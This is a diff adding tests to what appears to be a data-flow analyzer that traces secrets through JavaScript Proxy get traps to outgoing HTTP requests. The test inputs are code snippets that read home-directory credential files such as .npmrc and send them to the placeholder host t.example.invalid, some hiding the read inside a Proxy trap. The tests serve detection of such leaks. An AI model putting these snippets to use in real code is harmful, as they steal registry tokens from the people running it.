@@ -102,6 +102,22 @@ describe("Electron's main-process HTTP client", () => {
   });
 });
 
+describe("Proxy get traps", () => {
+  const SENT = ["registry-token -> http https://t.example.invalid/x (import)"];
+  it.each([
+    ["a trap that reads the file its property names", "const p = new Proxy({}, { get(_t, name) { return fs.readFileSync(os.homedir() + '/.' + name, 'utf8'); } });\nhttps.request('https://t.example.invalid/x').end(p.npmrc);"],
+    ["an arrow trap, any property", `const p = new Proxy({}, { get: () => ${READ} });\nhttps.request('https://t.example.invalid/x').end(p.anything);`],
+    ["a trap forwarding to its target", `const p = new Proxy({ k: ${READ} }, { get(t, n) { return Reflect.get(t, n); } });\nhttps.request('https://t.example.invalid/x').end(p.k);`],
+  ])("%s", async (_name, code) => {
+    expect(await flowsOf(code)).toEqual(SENT);
+  });
+
+  it("a proxy without a get trap reads its target", async () => {
+    expect(await flowsOf(`const p = new Proxy({ k: ${READ} }, {});\nhttps.request('https://t.example.invalid/x').end(p.k);`)).toEqual(SENT);
+    expect(await flowsOf(`const p = new Proxy({ k: ${READ}, v: '1' }, {});\nhttps.request('https://t.example.invalid/x').end(p.v);`)).toEqual([]);
+  });
+});
+
 describe("data carried by events, lines and URLs", () => {
   it("emit() reaches the listeners registered with on()", async () => {
     const flows = await flowsOf(`const E = require('events'); const e = new E();\ne.on('d', (x) => https.request('https://t.example.invalid/x').end(x));\ne.emit('d', ${READ});`);
